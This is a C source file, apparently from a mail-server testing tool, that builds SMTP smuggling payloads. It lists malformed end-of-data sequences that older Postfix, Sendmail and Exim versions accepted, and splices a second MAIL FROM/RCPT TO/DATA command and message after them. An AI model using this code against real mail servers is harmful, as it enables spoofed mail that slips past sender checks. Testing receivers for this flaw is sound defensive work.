#include "smuggle.h"

#include <stdio.h>
#include <string.h>

#include "expand.h"

#define V(n, s)                                                                                    \
	{                                                                                          \
		n, s, sizeof(s) - 1                                                                \
	}
/* <LF>.<LF> and kin as Postfix, Sendmail and Exim accepted them before their fixes, the NUL
 * form some receivers skip over, and the bare-CR forms. */
const struct smuggle_variant smuggle_variants[SMUGGLE_VARIANTS] = {
    V("lf-dot-lf", "\n.\n"),     V("lf-dot-crlf", "\n.\r\n"), V("lf-dot-cr", "\n.\r"),
    V("cr-dot-cr", "\r.\r"),     V("cr-dot-crlf", "\r.\r\n"), V("cr-dot-lf", "\r.\n"),
    V("crlf-dot-cr", "\r\n.\r"), V("crlf-dot-lf", "\r\n.\n"), V("crlf-nul-dot", "\r\n\0.\r\n"),
};

int smuggle_message(const struct expand *x, int outer, int inner, int variant, struct buf *out)
{
	static const char end[] = "\r\n.\r\n";
	size_t before = buf_len(out);
	if (variant < 0 || variant >= SMUGGLE_VARIANTS || expand_message(x, outer, out) < 0)
		return -1;
	size_t n = buf_len(out) - before;
	if (n < sizeof(end) - 1 || memcmp(buf_head(out) + buf_len(out) - 5, end, 5) != 0)
		return -1;
	buf_unappend(out, sizeof(end) - 1); /* the outer message's own end goes */
	const struct smuggle_variant *v = &smuggle_variants[variant];
	char cmds[1200];
	struct test_args a;
	expand_test(x, inner, &a);
	int cl = snprintf(cmds, sizeof(cmds), "MAIL FROM:%s\r\nRCPT TO:%s\r\nDATA\r\n",
	                  a.mail[0] ? a.mail : "<>", a.rcpt[0] ? a.rcpt : "<>");
	if (cl < 0 || (size_t)cl >= sizeof(cmds))
		return -1;
	if (buf_append(out, v->eod, v->len) < 0 || buf_append(out, cmds, (size_t)cl) < 0)
		return -1;
	return expand_message(x, inner, out);
}
